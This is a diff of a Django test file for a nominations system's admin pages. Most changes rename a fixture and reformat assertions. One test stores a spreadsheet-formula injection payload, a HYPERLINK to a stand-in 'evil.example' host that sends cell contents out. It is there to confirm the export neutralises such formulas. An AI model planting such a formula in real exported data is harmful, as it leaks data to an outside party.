@@ -26,9 +26,10 @@ from nominations.models import (
     NominatorKind,
 )
 
-from .conftest import pdf_bytes
+from .helpers import pdf_bytes
 
-pytestmark = pytest.mark.django_db
+# The secretariat's pages in English, the msgids, whatever the translations say.
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english_admin")]
 
 CANDIDATES = "/admin/nominations/candidate/"
 NOMINATIONS = "/admin/nominations/nomination/"
@@ -133,14 +134,8 @@ def messages_of(response):
     return [(m.level, str(m)) for m in response.context["messages"]]
 
 
-@pytest.fixture(autouse=True)
-def english(admin_client, settings):
-    """The secretariat's pages in English, the msgids, whatever the translations say."""
-    admin_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
-
-
 @pytest.fixture
-def oslo(open_cycle):
+def nominated_oslo(open_cycle):
     """Oslo (0301) with three submitted nominations, a withdrawn one and a draft."""
     [candidate] = make_candidates(open_cycle, 1, numbers=["0301"])
     add_nominations(open_cycle, 3, [candidate])
@@ -154,7 +149,7 @@ def oslo(open_cycle):
 # --- The list of candidates and the decisions ---------------------------------------------------
 
 
-def test_the_candidate_list_shows_counts_and_status(admin_client, open_cycle, oslo):
+def test_the_candidate_list_shows_counts_and_status(admin_client, open_cycle, nominated_oslo):
     [other] = make_candidates(open_cycle, 1, numbers=["1812"])
     add_nominations(open_cycle, 1, [other])
     Candidate.objects.filter(pk=other.pk).update(
@@ -171,7 +166,7 @@ def test_the_candidate_list_shows_counts_and_status(admin_client, open_cycle, os
     assert "Oslo (0301)" in page
     assert "Not eligible" in page and "Not yet screened" in page
     # The count leads to the candidate's nominations.
-    assert f"candidate__id__exact={oslo.pk}&amp;status=submitted" in page
+    assert f"candidate__id__exact={nominated_oslo.pk}&amp;status=submitted" in page
 
 
 def test_the_candidate_list_searches_the_register_by_name_or_number(admin_client, open_cycle):
@@ -182,20 +177,26 @@ def test_the_candidate_list_searches_the_register_by_name_or_number(admin_client
         assert found == ["0301"]
 
 
-def test_not_eligible_without_a_reason_is_refused_beside_the_field(admin_client, oslo):
-    page = run_action(admin_client, CANDIDATES, "mark_ineligible", [oslo])
+def test_not_eligible_without_a_reason_is_refused_beside_the_field(admin_client, nominated_oslo):
+    page = run_action(admin_client, CANDIDATES, "mark_ineligible", [nominated_oslo])
     assert page.status_code == 200
-    assert page.context["objects"] == [oslo]
+    assert page.context["objects"] == [nominated_oslo]
 
-    response = confirm_action(admin_client, CANDIDATES, "mark_ineligible", [oslo], reason="  ")
+    response = confirm_action(
+        admin_client, CANDIDATES, "mark_ineligible", [nominated_oslo], reason="  "
+    )
 
     assert response.status_code == 200
     assert response.context["form"].errors["reason"] == [
         "Give the reason why the candidate is not eligible."
     ]
     assert 'class="form-row errors"' in response.content.decode()
-    oslo.refresh_from_db()
-    assert (oslo.eligibility, oslo.eligibility_reason, oslo.screened_at) == (
+    nominated_oslo.refresh_from_db()
+    assert (
+        nominated_oslo.eligibility,
+        nominated_oslo.eligibility_reason,
+        nominated_oslo.screened_at,
+    ) == (
         Eligibility.PENDING,
         "",
         None,
@@ -218,37 +219,47 @@ def test_not_eligible_with_a_reason_is_stored_for_all_the_selected(admin_client,
     assert LogEntry.objects.filter(object_id__in=[str(c.pk) for c in candidates]).count() == 2
 
 
-def test_eligible_needs_no_reason(admin_client, oslo):
-    response = confirm_action(admin_client, CANDIDATES, "mark_eligible", [oslo], reason="")
+def test_eligible_needs_no_reason(admin_client, nominated_oslo):
+    response = confirm_action(
+        admin_client, CANDIDATES, "mark_eligible", [nominated_oslo], reason=""
+    )
 
     assert response.status_code == 302
-    oslo.refresh_from_db()
-    assert oslo.eligibility == Eligibility.ELIGIBLE and oslo.screened_at is not None
+    nominated_oslo.refresh_from_db()
+    assert (
+        nominated_oslo.eligibility == Eligibility.ELIGIBLE
+        and nominated_oslo.screened_at is not None
+    )
 
 
-def test_the_candidate_page_applies_the_same_rule(admin_client, oslo):
-    url = f"{CANDIDATES}{oslo.pk}/change/"
+def test_the_candidate_page_applies_the_same_rule(admin_client, nominated_oslo):
+    url = f"{CANDIDATES}{nominated_oslo.pk}/change/"
 
     refused = admin_client.post(url, {"eligibility": "ineligible", "eligibility_reason": ""})
     assert refused.status_code == 200
     assert refused.context["adminform"].form.errors["eligibility_reason"]
-    oslo.refresh_from_db()
-    assert oslo.eligibility == Eligibility.PENDING
+    nominated_oslo.refresh_from_db()
+    assert nominated_oslo.eligibility == Eligibility.PENDING
 
     stored = admin_client.post(url, {"eligibility": "ineligible", "eligibility_reason": "Late."})
     assert stored.status_code == 302
-    oslo.refresh_from_db()
-    assert (oslo.eligibility, oslo.eligibility_reason) == (Eligibility.INELIGIBLE, "Late.")
-    assert oslo.screened_at is not None
+    nominated_oslo.refresh_from_db()
+    assert (nominated_oslo.eligibility, nominated_oslo.eligibility_reason) == (
+        Eligibility.INELIGIBLE,
+        "Late.",
+    )
+    assert nominated_oslo.screened_at is not None
 
 
-def test_the_candidate_page_shows_every_nomination_side_by_side(admin_client, open_cycle, oslo):
-    nominations = list(oslo.nominations.order_by("submitted_at", "pk"))
+def test_the_candidate_page_shows_every_nomination_side_by_side(
+    admin_client, open_cycle, nominated_oslo
+):
+    nominations = list(nominated_oslo.nominations.order_by("submitted_at", "pk"))
     first_criterion = open_cycle.criteria.get(position=1)
     evidence = store_file(nominations[0], "vedtak.pdf", criterion=first_criterion)
     general = store_file(nominations[1], "mandat.pdf")
 
-    response = admin_client.get(f"{CANDIDATES}{oslo.pk}/change/")
+    response = admin_client.get(f"{CANDIDATES}{nominated_oslo.pk}/change/")
 
     assert response.status_code == 200
     comparison = response.context["comparison"]
@@ -273,7 +284,7 @@ def test_the_candidate_page_shows_every_nomination_side_by_side(admin_client, op
 # --- Nominations: the list, withdrawal, the read-only page ---------------------------------------
 
 
-def test_drafts_are_hidden_unless_asked_for(admin_client, oslo):
+def test_drafts_are_hidden_unless_asked_for(admin_client, nominated_oslo):
     listed = admin_client.get(NOMINATIONS).context["cl"].result_list
     assert {n.status for n in listed} == {NominationStatus.SUBMITTED, NominationStatus.WITHDRAWN}
     assert len(listed) == 4
@@ -282,8 +293,8 @@ def test_drafts_are_hidden_unless_asked_for(admin_client, oslo):
     assert [n.status for n in drafts] == [NominationStatus.DRAFT]
 
 
-def test_withdrawing_in_the_admin_requires_a_reason(admin_client, oslo):
-    nomination = oslo.nominations.filter(status=NominationStatus.SUBMITTED).first()
+def test_withdrawing_in_the_admin_requires_a_reason(admin_client, nominated_oslo):
+    nomination = nominated_oslo.nominations.filter(status=NominationStatus.SUBMITTED).first()
 
     page = run_action(admin_client, NOMINATIONS, "withdraw_on_request", [nomination])
     assert page.status_code == 200 and nomination.reference in page.content.decode()
@@ -306,11 +317,11 @@ def test_withdrawing_in_the_admin_requires_a_reason(admin_client, oslo):
     assert nomination.status == NominationStatus.WITHDRAWN
     assert nomination.withdrawal_reason == "The nominator asked by phone on 3 May."
     assert nomination.withdrawn_at is not None
-    assert Candidate.objects.with_counts().get(pk=oslo.pk).nomination_count == 2
+    assert Candidate.objects.with_counts().get(pk=nominated_oslo.pk).nomination_count == 2
 
 
-def test_what_a_nominator_wrote_cannot_be_changed_in_the_admin(admin_client, oslo):
-    nomination = oslo.nominations.first()
+def test_what_a_nominator_wrote_cannot_be_changed_in_the_admin(admin_client, nominated_oslo):
+    nomination = nominated_oslo.nominations.first()
     url = f"{NOMINATIONS}{nomination.pk}/change/"
 
     page = admin_client.get(url)
@@ -328,8 +339,8 @@ def test_what_a_nominator_wrote_cannot_be_changed_in_the_admin(admin_client, osl
 
 
 @pytest.fixture
-def attachment(oslo):
-    return store_file(oslo.nominations.first(), "vedtak.pdf")
+def attachment(nominated_oslo):
+    return store_file(nominated_oslo.nominations.first(), "vedtak.pdf")
 
 
 def test_the_secretariat_downloads_an_attachment_as_a_file(admin_client, attachment):
@@ -413,7 +424,9 @@ EXPECTED_START = [
 
 
 @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
-def test_the_export_has_a_row_per_nomination_with_the_answers(admin_client, oslo, file_format):
+def test_the_export_has_a_row_per_nomination_with_the_answers(
+    admin_client, nominated_oslo, file_format
+):
     response = export(admin_client, file_format)
 
     assert response.status_code == 200
@@ -424,7 +437,7 @@ def test_the_export_has_a_row_per_nomination_with_the_answers(admin_client, oslo
     assert len(header) == 14 + 2 * 5 + 1
     assert len(body) == 4  # three submitted and one withdrawn; no draft
     values = [dict(zip(header, row, strict=True)) for row in body]
-    first = next(v for v in values if v["Reference"] == f"AFK-{oslo.cycle.year}-0001")
+    first = next(v for v in values if v["Reference"] == f"AFK-{nominated_oslo.cycle.year}-0001")
     assert first["Municipality number"] == "0301"  # text, leading zero kept
     assert first["Municipality"] == "Oslo"
     assert first["County"] == "Oslo"
@@ -437,22 +450,22 @@ def test_the_export_has_a_row_per_nomination_with_the_answers(admin_client, oslo
     oslo_time = submitted.astimezone(ZoneInfo("Europe/Oslo"))
     if file_format == "csv":
         assert first["Submitted"] == oslo_time.strftime("%Y-%m-%d %H:%M")
-        assert first["Year"] == str(oslo.cycle.year)
+        assert first["Year"] == str(nominated_oslo.cycle.year)
     else:
         assert first["Submitted"].replace(microsecond=0) == oslo_time.replace(
             tzinfo=None, microsecond=0
         )
-        assert first["Year"] == oslo.cycle.year
+        assert first["Year"] == nominated_oslo.cycle.year
         assert first["Attachments"] == 0
 
 
-def test_the_export_follows_the_list_filters(admin_client, oslo):
+def test_the_export_follows_the_list_filters(admin_client, nominated_oslo):
     rows = csv_rows(export(admin_client, "csv", status="withdrawn"))
     assert len(rows) == 2 and rows[1][2] == "Withdrawn"
 
 
-def test_no_nominators_text_becomes_a_spreadsheet_formula(admin_client, oslo):
-    Nomination.objects.filter(pk=oslo.nominations.first().pk).update(
+def test_no_nominators_text_becomes_a_spreadsheet_formula(admin_client, nominated_oslo):
+    Nomination.objects.filter(pk=nominated_oslo.nominations.first().pk).update(
         reason='=HYPERLINK("https://evil.example/?"&A1;"Click")'
     )
 
@@ -468,7 +481,9 @@ def test_no_nominators_text_becomes_a_spreadsheet_formula(admin_client, oslo):
     assert xlsx_rows(response)[1][8] == "+47 900 00 000"
 
 
-def test_an_export_of_several_cycles_heads_the_answers_by_position(admin_client, open_cycle, oslo):
+def test_an_export_of_several_cycles_heads_the_answers_by_position(
+    admin_client, open_cycle, nominated_oslo
+):
     past = open_cycle.copy_to_year(open_cycle.year - 1)
     [candidate] = make_candidates(past, 1, numbers=["1812"])
     add_nominations(past, 1, [candidate])
@@ -570,7 +585,7 @@ def test_the_default_criteria_are_added_once(admin_client, open_cycle):
 
 
 def test_the_cycle_list_shows_the_phase_and_the_counts(
-    admin_client, open_cycle, oslo, django_assert_max_num_queries
+    admin_client, open_cycle, nominated_oslo, django_assert_max_num_queries
 ):
     for year in range(open_cycle.year - 3, open_cycle.year):
         open_cycle.copy_to_year(year)
